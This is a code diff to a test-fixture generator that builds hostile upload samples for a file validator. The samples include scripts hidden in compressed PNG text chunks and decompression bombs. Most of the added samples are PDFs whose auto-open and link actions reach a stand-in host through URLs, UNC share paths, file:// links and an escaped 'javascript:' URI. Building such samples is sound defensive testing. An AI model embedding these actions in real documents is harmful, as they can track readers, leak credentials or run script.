@@ -1,4 +1,6 @@
 import { extname } from 'node:path';
+import { deflateSync } from 'node:zlib';
+import { bombs } from './bombs.ts';
 import type { Sample } from './good-samples.ts';
 import { makePackedPdf, makePdf } from './make-pdf.ts';
 import { drawn, flat, pngChunk, withChunks, withComment, withSegment, zip } from './make-picture.ts';
@@ -32,8 +34,11 @@ export async function hostileSamples(): Promise<readonly HostileSample[]> {
     glued: glued(good),
     hidden: hidden(good),
     flood: await floods(good),
+    bomb: bombs(good.png),
     spoilt: spoilt(good),
     acting: actingPapers(),
+    leaving: leavingPapers(),
+    locked: lockedPapers(),
   };
   return Object.entries(classes).flatMap(([name, samples]) =>
     samples.map((sample) => ({ ...sample, kind: `${name} ${extname(sample.name)}` })),
@@ -75,7 +80,6 @@ function otherKinds(): Sample[] {
 function wrongNames(good: Good): Sample[] {
   const names = [
     ...['html', 'svg', 'php', 'exe', 'js', 'xhtml', 'txt', 'webp', 'pdf', ''].map((end) => `scan.${end}`),
-    'scan',
     'scan.png.html',
     'scan.html.png',
     'scan.php.png',
@@ -141,6 +145,13 @@ function hidden({ png, jpg, gif }: Good): Sample[] {
     ...scripts.flatMap((script, i) => [
       { name: `words ${i}.png`, bytes: withChunks(png, pngChunk('tEXt', Buffer.from(`Comment\0${script}`))) },
       { name: `own chunk ${i}.png`, bytes: withChunks(png, pngChunk('heLo', Buffer.from(script))) },
+      {
+        name: `packed words ${i}.png`,
+        bytes: withChunks(
+          png,
+          pngChunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(Buffer.from(script))])),
+        ),
+      },
       { name: `comment ${i}.jpg`, bytes: withSegment(jpg, 0xfe, Buffer.from(script)) },
       {
         name: `camera ${i}.jpg`,
@@ -310,5 +321,77 @@ function actingPapers(): Sample[] {
       name: `page in an object ${i}.pdf`,
       bytes: makePdf({ objects: { 9: `(${script.replaceAll(/[()]/g, '')}<script>)` } }),
     })),
+  ];
+}
+
+/** Papers that lead out of themselves without a press, or to another file or a place of a network by one. */
+function leavingPapers(): Sample[] {
+  const byThemselves = [
+    '<< /S /URI /URI (https://evil.example/seen) >>',
+    '<< /S /GoTo /D [20 0 R /Fit] /Next 10 0 R >>',
+  ];
+  const always = [
+    '<< /S /GoToR /F (\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit] >>',
+    '<< /S /GoToR /F << /UF (//evil.example/a.pdf) >> >>',
+    '<< /S /Thread /F (//evil.example/a.pdf) /D 0 >>',
+    '<< /S /Movie /T (x) /F 11 0 R >>',
+    '<< /S /URI /URI (file://evil.example/share) >>',
+    '<< /S /URI /URI <66696C653A2F2F6576696C2E6578616D706C65> >>',
+    '<< /S /URI /URI (\\\\evil.example\\\\share) >>',
+    '<< /S /URI /URI 11 0 R >>',
+    '<< /S /URI /URI (\\152avascript:1) >>',
+  ];
+  const more = { 10: '<< /S /URI /URI (https://evil.example) >>', 11: '(//evil.example/share)' };
+  const link = (action: string) => ({
+    page: '/Annots [12 0 R]',
+    objects: { 9: action, 12: '<< /Type /Annot /Subtype /Link /Rect [0 0 90 20] /A 9 0 R >>', ...more },
+  });
+  return [
+    ...[...byThemselves, ...always].flatMap((action, i) => [
+      {
+        name: `opens to ${i}.pdf`,
+        bytes: makePdf({ catalog: '/OpenAction 9 0 R', objects: { 9: action, ...more } }),
+      },
+      { name: `opens within ${i}.pdf`, bytes: makePdf({ catalog: `/OpenAction ${action}`, objects: more }) },
+      {
+        name: `turns to ${i}.pdf`,
+        bytes: makePdf({ page: '/AA << /O 9 0 R >>', objects: { 9: action, ...more } }),
+      },
+      {
+        name: `packed, opens to ${i}.pdf`,
+        bytes: makePackedPdf('/OpenAction 4 0 R', [action, more[10], more[11]]),
+      },
+    ]),
+    ...always.map((action, i) => ({ name: `a press leads to ${i}.pdf`, bytes: makePdf(link(action)) })),
+    { name: 'opens to nothing.pdf', bytes: makePdf({ catalog: '/OpenAction 99 0 R' }) },
+    { name: 'base elsewhere.pdf', bytes: makePdf({ catalog: '/URI << /Base (file://evil.example/) >>' }) },
+    {
+      name: 'pixels elsewhere.pdf',
+      bytes: makePdf({ objects: { 9: '<< /Length 0 /F (//evil.example/a) >>\nstream\n\nendstream' } }),
+    },
+    {
+      name: 'an object within a stream.pdf',
+      bytes: makePdf({ text: '9 0 obj << /S /URI /URI (file://evil.example) >> endobj' }),
+    },
+    {
+      name: 'a remark in a number.pdf',
+      bytes: makePdf({
+        catalog: '/OpenAction 9 %x\n 0 R',
+        objects: { 9: '<< /S /URI /URI (https://evil.example) >>' },
+      }),
+    },
+  ];
+}
+
+function lockedPapers(): Sample[] {
+  const locked = makePdf({ objects: { 9: '<< /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -4 >>' } });
+  return [
+    {
+      name: 'locked.pdf',
+      bytes: Buffer.from(
+        locked.toString('latin1').replace('/Root 1 0 R', '/Root 1 0 R /Encrypt 9 0 R'),
+        'latin1',
+      ),
+    },
   ];
 }
